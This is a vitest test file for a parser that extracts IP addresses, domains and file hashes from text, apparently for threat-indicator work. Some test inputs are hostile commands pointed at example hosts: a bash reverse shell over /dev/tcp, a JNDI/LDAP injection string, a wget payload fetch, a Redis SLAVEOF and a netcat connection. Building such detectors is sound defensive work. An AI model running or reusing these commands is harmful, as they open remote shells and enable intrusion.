import { describe, expect, it } from 'vitest';
import { bareHosts, hashes, hostKind, hostOf, ipv6Addresses, isDomain, isIpv4 } from './hosts.js';

const values = (text: string): string[] => bareHosts(text).map((h) => h.value);

describe('addresses', () => {
  it('takes dotted quads with valid octets and no leading zeros', () => {
    expect(isIpv4('198.51.100.211')).toBe(true);
    expect(isIpv4('256.1.1.1')).toBe(false);
    expect(isIpv4('01.02.03.04')).toBe(false);
    expect(isIpv4('1.2.3')).toBe(false);
  });

  it('finds a bare IPv4 only when nothing glues to it', () => {
    expect(values('SLAVEOF 198.51.100.211 8886')).toEqual(['198.51.100.211']);
    expect(values('wget -g 198.51.100.120 -l /tmp/b')).toEqual(['198.51.100.120']);
    expect(values('connect 192.0.2.7:4444.')).toEqual(['192.0.2.7']);
    expect(values('v1.2.3.4 1.2.3.4.5 1.2.3.4a x1.2.3.4')).toEqual([]);
  });

  it('takes version strings after a slash for versions, not addresses', () => {
    expect(values('Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91')).toEqual([]);
    expect(values('python-requests/2.6.0 Linux/2.6.32-754.2.1.el6.x86_64')).toEqual([]);
  });

  it('keeps addresses after //, /dev/tcp/ and \\\\', () => {
    expect(values('ldap://198.51.100.5:1389/a')).toEqual(['198.51.100.5']);
    expect(values('bash -i >& /dev/tcp/198.51.100.6/4444 0>&1')).toEqual(['198.51.100.6']);
    expect(values(String.raw`\\198.51.100.8\share`)).toEqual(['198.51.100.8']);
  });

  it('leaves half a percent escape to the decoded layer', () => {
    expect(values('wget%20198.51.100.9')).toEqual([]);
  });

  it('finds IPv6 only in brackets or after a verb that takes a host', () => {
    expect(ipv6Addresses('connect to [2001:db8::1]:80')).toEqual(['2001:db8::1']);
    expect(ipv6Addresses('nc -v 2001:DB8::2 4444')).toEqual(['2001:db8::2']);
    expect(ipv6Addresses('time 12:30:45 and a::b in text')).toEqual([]);
  });
});

describe('domains', () => {
  it('needs an ICANN suffix and a label of its own', () => {
    expect(isDomain('paste.example.com')).toBe(true);
    expect(isDomain('co.uk')).toBe(false);
    expect(isDomain('Mozi.m')).toBe(false);
    expect(isDomain('index.php')).toBe(false);
    expect(isDomain('bad_label.example.com')).toBe(false);
  });

  it('takes file names with TLD-like extensions for files', () => {
    expect(values('sh ISIS.sh; sh mirai.sh; python x.py; cat Mozi.m index.php')).toEqual([]);
    expect(values('perl exploit.pl; unzip a.zip; GET /login.do')).toEqual([]);
  });

  it('takes a name after a slash for a path, and code for code', () => {
    expect(values('GET /tmp/evil.example.com/x')).toEqual([]);
    expect(values('New-Object System.Net.WebClient; requests.get(u); $obj.example.com'))
      .toEqual([]);
  });

  it('takes a dotted name followed by = for a key', () => {
    expect(values('fox.version=s:1.0\napp.name=s:Workbench\nos.name=s:Windows XP')).toEqual([]);
    expect(values('host=c2.example.name&x=1')).toEqual(['c2.example.name']);
  });

  it('finds the host of a URL scheme it does not report, as in a JNDI lookup', () => {
    expect(values('${jndi:ldap://evil.example.com:1389/a} rmi://198.51.100.4/b'))
      .toEqual(['evil.example.com', '198.51.100.4']);
  });

  it('finds bare names in commands, in lowercase', () => {
    expect(values('openssl s_client -connect example.net:443')).toEqual(['example.net']);
    expect(values('PING CDN.EXAMPLE.ORG.')).toEqual(['cdn.example.org']);
  });

  it('reads the host of an authority', () => {
    expect(hostOf('203.0.113.10:8545')).toBe('203.0.113.10');
    expect(hostOf('[2001:DB8::1]:80')).toBe('2001:db8::1');
    expect(hostOf('Example.COM.')).toBe('example.com');
    expect(hostKind('2001:db8::1')).toBe('ipv6');
    expect(hostKind('localhost')).toBeNull();
  });
});

describe('digests', () => {
  const sha256 = 'fb101f4db773ad15e3de4016e4b6516a7232dc499d8869a279524bf34a28f156';

  it('finds MD5, SHA-1 and SHA-256 hex with word boundaries', () => {
    const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
    const sha1 = 'DA39A3EE5E6B4B0D3255BFEF95601890AFD80709';
    expect(hashes(`md5 ${md5}, sha1=${sha1}; grep ${sha256}`))
      .toEqual([md5, sha1.toLowerCase(), sha256]);
  });

  it('skips other lengths, glued hex, mixed case and digest authentication', () => {
    expect(hashes(`${sha256}00 x${sha256} 0x407d73d8a49eeb85d32cf465507dd71d507100c1`)).toEqual([]);
    expect(hashes('d41d8cd98f00B204e9800998ecf8427e')).toEqual([]);
    const digestAuth = 'nonce="88645cefb1f9ede0e336e3569d75ee30", '
      + 'response="3612f843a42db38f48f59d2a3597e19c"';
    expect(hashes(digestAuth)).toEqual([]);
    expect(hashes('00000000000000000000000000000000')).toEqual([]);
  });
});
